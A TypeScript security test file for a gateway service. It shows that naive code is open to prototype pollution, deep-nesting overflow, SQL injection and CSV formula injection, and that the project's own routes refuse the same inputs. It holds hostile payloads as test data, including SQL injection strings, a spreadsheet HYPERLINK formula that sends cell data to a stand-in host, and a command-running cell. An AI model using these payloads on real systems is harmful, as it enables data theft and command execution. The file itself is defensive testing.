/** Whoever writes what is read as something else: keys that reach a prototype, SQL in filters, formulas in files (45). */
import type { AddressInfo } from 'node:net'
import { PGlite } from '@electric-sql/pglite'
import { expect } from 'chai'
import express from 'express'
import { z } from 'zod'
import { openDatabase } from '../../workers/gateway/database/index.ts'
import { accounts, tasks } from '../../workers/gateway/database/schema/chain.ts'
import { parseJson } from '../../workers/gateway/http/body.ts'
import { defineRoute } from '../../workers/gateway/http/route.ts'
import { createHttpServer } from '../../workers/gateway/http/server.ts'
import { csvOf } from '../../workers/gateway/route/csv.ts'
import { decodeCursor } from '../../workers/gateway/route/cursor.ts'
import { readRoutes } from '../../workers/gateway/route/index.ts'
import { testParts } from '../fixtures/gatewayParts.ts'

const POISON = '{"settings":{"__proto__":{"isAdmin":true}}}'

/** As a hundred small libraries do it. */
function deepMerge(into: Record<string, unknown>, from: Record<string, unknown>): void {
  for (const [key, value] of Object.entries(from)) {
    if (typeof value !== 'object' || value === null) into[key] = value
    else {
      into[key] ??= {}
      deepMerge(into[key] as Record<string, unknown>, value as Record<string, unknown>)
    }
  }
}
const isPolluted = (): boolean => 'isAdmin' in {}
const cleanUp = (): void => {
  delete (Object.prototype as { isAdmin?: boolean }).isAdmin
}
const send = (url: string, body: string) =>
  fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body })

describe('what is read as something else', () => {
  afterEach(cleanUp)

  it('a visitor who names __proto__ in a body makes everybody an admin where bodies are merged unlooked-at', async () => {
    const app = express().use(express.json())
    app.post('/', (request, response) => {
      deepMerge({ settings: {} }, request.body)
      response.end()
    })
    const server = app.listen(0, '127.0.0.1')
    await new Promise((resolve) => server.once('listening', resolve))
    await send(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`, POISON)
    await new Promise((resolve) => server.close(resolve))
    expect(isPolluted()).to.equal(true)
  })

  it('a visitor who names __proto__ or constructor in a body of ours is refused before any handler', async () => {
    let reached = 0
    const route = defineRoute({
      method: 'post',
      path: '/merge',
      tag: 'tasks',
      summary: 'Merges',
      access: 'open',
      body: z.looseObject({}),
      reply: z.object({}),
      async handle({ body }) {
        reached++
        deepMerge({ settings: {} }, body)
        return {}
      },
    })
    const http = await createHttpServer({
      parts: testParts(),
      routes: [route],
      authenticate: async () => null,
      port: 0,
    })
    for (const body of [
      POISON,
      '{"a":[{"__proto__":{"isAdmin":true}}]}',
      '{"constructor":{"prototype":{"isAdmin":true}}}',
      '{"\\u005f_proto__":{"isAdmin":true}}',
    ]) {
      const response = await send(`${http.url}/merge`, body)
      expect([response.status, (await response.json()).code]).to.deep.equal([400, 'HTTP_BODY_INVALID'])
    }
    await http.stop(0)
    expect([reached, isPolluted()]).to.deep.equal([0, false])
  })

  it('a body nested a hundred thousand deep overflows who walks it, and is refused here', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
    const walk = (value: unknown): number => 1 + (Array.isArray(value) && value.length > 0 ? walk(value[0]) : 0)
    expect(() => walk(JSON.parse(deep))).to.throw(RangeError)
    expect(() => parseJson(Buffer.from(deep))).to.throw(/nested over/)
  })

  it('a filter pasted into SQL reads another user’s rows; as a parameter of ours it reads none', async function () {
    this.timeout(60_000)
    const INJECTION = "x' or '1'='1"
    const lite = await PGlite.create()
    await lite.exec("create table secrets (owner text, what text); insert into secrets values ('alice', 'her draft')")
    const { rows } = await lite.query(`select what from secrets where owner = '${INJECTION}'`)
    expect(rows).to.deep.equal([{ what: 'her draft' }])
    await lite.close()

    const database = await openDatabase({ dir: null })
    const { db } = database
    await db.insert(accounts).values({ account: 'alice.near', firstHeight: 1, updatedHeight: 1 })
    const parts = testParts({ db })
    const http = await createHttpServer({
      parts,
      routes: readRoutes(parts),
      authenticate: async () => null,
      port: 0,
    })
    const hostile = [
      INJECTION,
      "'; drop table chain.tasks; --",
      '1 or 1=1',
      '%27%20or%201=1',
      '\u0000',
      '🦊',
      '$1',
      '{}',
    ]
    for (const text of hostile) {
      const q = encodeURIComponent(text)
      for (const path of [
        `/api/v1/tasks?requester=${q}`,
        `/api/v1/tasks?state=${q}`,
        `/api/v1/tasks?cursor=${q}`,
        `/api/v1/tasks?cursor=${Buffer.from(`tasks:${text}`).toString('base64url')}`,
        `/api/v1/tasks/${q}`,
        `/api/v1/receipts?worker=${q}`,
        `/api/v1/receipts/${q}/proof`,
        `/api/v1/nodes/${q}/status`,
        `/api/v1/nodes?role=${q}`,
        `/api/v1/models/${q}`,
        `/api/v1/why/${q}`,
      ]) {
        const response = await fetch(http.url + path)
        expect(response.status, path).to.be.oneOf([400, 404])
      }
    }
    expect([await db.$count(accounts), await db.$count(tasks)]).to.deep.equal([1, 0])
    await http.stop(0)
    await database.close()
  })

  it('a cursor that was not given out is no key', () => {
    for (const text of ['tasks:1 or 1=1', 'tasks:-1', 'tasks:1e9', 'tasks:', 'tasks', 'receipts:1', 'tasks:1:2']) {
      expect(() => decodeCursor('tasks', 1, Buffer.from(text).toString('base64url'))).to.throw(/none of this list/)
    }
    expect(decodeCursor('tasks', 1, Buffer.from('tasks:12').toString('base64url'))).to.deep.equal([12])
  })

  it('a name that begins like a formula runs in a spreadsheet when joined by commas, and is text in our files', () => {
    const hostile = [
      '=HYPERLINK("http://evil/?"&A1)',
      '+1+cmd|/C calc',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '|x',
      '%0A=1',
    ]
    // What a spreadsheet takes for a formula, once quotes around the cell are gone.
    const isFormula = (cell: string): boolean => /^[\s]*[=+\-@|%]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
    const cellsOf = (csv: string): string[] =>
      csv
        .slice(csv.indexOf('\n') + 1)
        .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
        .filter((line) => line !== '')
        .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell))
    const naive = `name\n${hostile.join('\r\n')}\r\n`
    expect(cellsOf(naive).some(isFormula)).to.equal(true)
    const ours = cellsOf(
      csvOf(
        ['name'],
        hostile.map((name) => ({ name })),
      ),
    )
    expect(ours).to.have.length(hostile.length)
    expect(ours.filter(isFormula)).to.deep.equal([])
    // Losses are numbers and stay numbers.
    expect(csvOf(['delta'], [{ delta: '-5' }])).to.equal('delta\r\n-5\r\n')
  })
})
